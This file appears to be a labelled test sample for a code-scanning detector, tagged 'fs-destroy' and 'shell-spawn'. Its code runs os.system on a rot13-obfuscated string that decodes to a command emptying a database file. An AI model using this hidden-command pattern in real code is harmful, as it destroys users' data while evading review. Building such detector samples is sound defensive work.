# expect: fs-destroy,shell-spawn
# also-ok: fs-write
# source: pyobfuscate-style
# technique: os.system of a rot13-decoded truncate command
import codecs
import os

os.system(codecs.decode("gehapngr -f 0 ncc.qo", "rot13"))
